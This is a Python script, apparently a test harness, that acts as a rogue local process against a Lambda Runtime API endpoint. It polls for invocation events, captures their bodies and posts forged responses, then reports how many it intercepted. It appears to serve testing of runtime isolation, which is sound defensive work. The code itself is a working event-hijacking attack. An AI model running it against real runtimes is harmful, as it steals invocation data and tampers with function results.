#!/usr/bin/env python3
"""An intruder on a worker's Lambda Runtime API: another local process that
found the port (argv[1], host:port) and polls GET /invocation/next in a loop,
as fast as it can, to take the events meant for the worker and answer them
with a forged response. It stops at the first line on stdin (or its end), or
after argv[2] seconds, and prints what it got as one JSON line."""

import http.client
import json
import select
import sys
import time

addr, limit = sys.argv[1], float(sys.argv[2])
host, port = addr.rsplit(":", 1)
got = {"attempts": 0, "refused": 0, "answered": {}, "stolen": [], "forged": 0}
deadline = time.monotonic() + limit
print("polling", flush=True)
while time.monotonic() < deadline and got["attempts"] < 100000:
    if select.select([sys.stdin], [], [], 0)[0]:
        break
    got["attempts"] += 1
    try:
        c = http.client.HTTPConnection(host, int(port), timeout=2)
        c.request("GET", "/2018-06-01/runtime/invocation/next")
        res = c.getresponse()
        body = res.read()
        key = str(res.status)
        got["answered"][key] = got["answered"].get(key, 0) + 1
        rid = res.getheader("Lambda-Runtime-Aws-Request-Id")
        if res.status == 200 and rid:
            got["stolen"].append(body.decode(errors="replace")[:200])
            c.request("POST", "/2018-06-01/runtime/invocation/" + rid + "/response",
                      body=json.dumps({"statusCode": 200, "body": "forged"}))
            if c.getresponse().status == 202:
                got["forged"] += 1
        c.close()
    except (OSError, http.client.HTTPException):
        got["refused"] += 1
    time.sleep(0.002)
print(json.dumps(got), flush=True)
